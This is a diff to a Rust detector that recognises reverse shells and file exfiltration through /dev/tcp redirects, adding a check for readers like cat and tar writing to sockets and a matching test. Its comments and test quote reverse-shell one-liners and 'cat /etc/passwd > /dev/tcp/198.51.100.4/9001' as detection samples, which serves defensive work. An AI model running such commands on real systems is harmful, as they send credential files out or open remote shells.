@@ -2,7 +2,8 @@
 //! `/dev/tcp/HOST/PORT` (`bash -i >& /dev/tcp/..`, `0<&196`), a named pipe relaying a shell
 //! through nc/telnet/openssl (`mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f`), and
 //! a network client piped into a shell (`telnet h p | /bin/sh`).
-//! A lone `echo > /dev/tcp/h/p` is a port probe, not a shell: noted, not fired.
+//! A lone `echo > /dev/tcp/h/p` is a port probe, not a shell: noted, not fired; a file
+//! written there (`cat /etc/passwd > /dev/tcp/h/p`) is data sent out.
 
 use super::{piped_into, runs_shell, ClassSet, Ctx, Findings, ProgramSet};
 use crate::analysis::shell::{RedirectOp, SimpleCommand};
@@ -34,6 +35,11 @@ pub fn detect(cx: &Ctx, out: &mut Findings) {
                 out.hit(
                     signals::DEV_TCP_REDIRECT,
                     format!("{} with its streams on {}", short(c), peer_of(&r.target)),
+                );
+            } else if let Some(file) = file_sent(c) {
+                out.hit(
+                    signals::NETWORK_EXFILTRATION_PIPE,
+                    format!("{p} sends {file} to {}", peer_of(&r.target)),
                 );
             } else {
                 out.note(format!(
@@ -109,6 +115,21 @@ pub fn detect(cx: &Ctx, out: &mut Findings) {
     }
 }
 
+/// The file a reader or archiver writes to its output (`cat /etc/passwd`, `tar c /etc`):
+/// with the output on a socket, that file leaves. None for probes (`echo`, `cat </dev/null`).
+fn file_sent<'c>(c: &'c SimpleCommand) -> Option<&'c str> {
+    if !matches!(
+        c.program(),
+        "cat" | "tar" | "dd" | "base64" | "gzip" | "xxd" | "head" | "tail"
+    ) {
+        return None;
+    }
+    super::args(c)
+        .iter()
+        .map(|a| a.strip_prefix("if=").unwrap_or(a))
+        .find(|a| a.starts_with('/') && *a != "/dev/null" && !a.starts_with("/dev/std"))
+}
+
 fn is_net_device(t: &str) -> bool {
     let t = t.trim_start_matches('&');
     t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/")
@@ -141,6 +162,23 @@ fn short(c: &SimpleCommand) -> String {
 mod tests {
     use super::super::testutil::*;
     use super::*;
+
+    #[test]
+    fn a_file_written_to_dev_tcp_is_sent_a_probe_is_not() {
+        assert_eq!(
+            run(
+                detect,
+                &["sh", "-c", "cat /etc/passwd > /dev/tcp/198.51.100.4/9001"]
+            ),
+            ["network_exfiltration_pipe"]
+        );
+        for probe in [
+            "echo > /dev/tcp/db/5432",
+            "cat < /dev/null > /dev/tcp/db/5432",
+        ] {
+            assert!(run(detect, &["sh", "-c", probe]).is_empty(), "{probe}");
+        }
+    }
 
     #[test]
     fn fires_on_bash_dev_tcp() {
